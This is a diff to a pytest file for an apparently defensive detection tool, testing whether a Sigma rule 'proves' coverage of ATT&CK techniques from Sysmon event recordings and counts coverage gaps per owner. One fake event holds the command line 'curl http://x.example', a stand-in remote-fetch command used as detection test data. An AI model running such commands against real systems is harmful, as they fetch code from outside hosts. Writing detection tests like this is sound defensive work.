@@ -90,37 +90,45 @@ def test_a_recording_proves_a_technique_only_if_a_rule_that_is_held_finds_someth
     town.found("aurelia")
     take(town)
     (tmp_path / "rule.yml").write_text(SIGMA)
-    args = ("--tlp", "CLEAR", "--source", "sigmahq")
-    town.do("aurelia", "import", str(tmp_path / "rule.yml"), *args, actor="amal")
     event = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Hostname": "pc"}
     for name, line in (("silent", "notepad"), ("attack", "curl http://x.example")):
         (tmp_path / f"{name}.jsonl").write_text(json.dumps(event | {"CommandLine": line}) + "\n")
+    (tmp_path / "letter.txt").write_text("Dear colleague,")
 
-    silent = town.run(
-        "aurelia",
-        "defence",
-        "prove",
-        "T1059.001",
-        "--recording",
-        tmp_path / "silent.jsonl",
-        actor="amal",
-    )
-    assert silent.exit_code == 1
+    def prove(name):
+        args = ("prove", "T1059.001", "--recording", tmp_path / name)
+        return town.run("aurelia", "defence", *args, actor="amal")
+
+    nothing = prove("attack.jsonl")
+    args = ("--tlp", "CLEAR", "--source", "sigmahq")
+    town.do("aurelia", "import", str(tmp_path / "rule.yml"), *args, actor="amal")
+    silent, letter = prove("silent.jsonl"), prove("letter.txt")
     before = town.ask("aurelia", "defence", "technique", "T1059.001", actor="amal")
-    town.do(
-        "aurelia",
-        "defence",
-        "prove",
-        "T1059.001",
-        "--recording",
-        tmp_path / "attack.jsonl",
-        actor="amal",
-    )
+    found = prove("attack.jsonl")
     after = town.ask("aurelia", "defence", "technique", "T1059.001", actor="amal")
+
+    assert [each.exit_code for each in (nothing, silent, letter, found)] == [1, 1, 1, 0]
+    assert "No rule that is held is about it" in nothing.stderr
+    assert "None of the 1 rules" in silent.stderr
+    assert "No event was read" in letter.stderr
     assert (before["seen"], before["proofs"]) == ("blind", [])
     assert after["seen"] == "proved"
     assert "Ingress by a shell" in after["proofs"][0]["text"]
     assert after["proofs"][0]["kind"] == "recording"
+
+
+def test_gaps_of_an_owner_are_counted_alone(town):
+    town.found("aurelia")
+    take(town)
+    town.do("aurelia", "defence", "assign", "T1105", "amal", actor="amal")
+
+    every = town.do("aurelia", "defence", "gaps", actor="amal")
+    own = town.do("aurelia", "defence", "gaps", "--owner", "amal", actor="amal")
+    none = town.do("aurelia", "defence", "gaps", "--overdue", actor="amal")
+
+    assert "Gaps: 43." in every
+    assert "Gaps: 1." in own
+    assert "No such gap" in none
 
 
 @pytest.mark.parametrize(
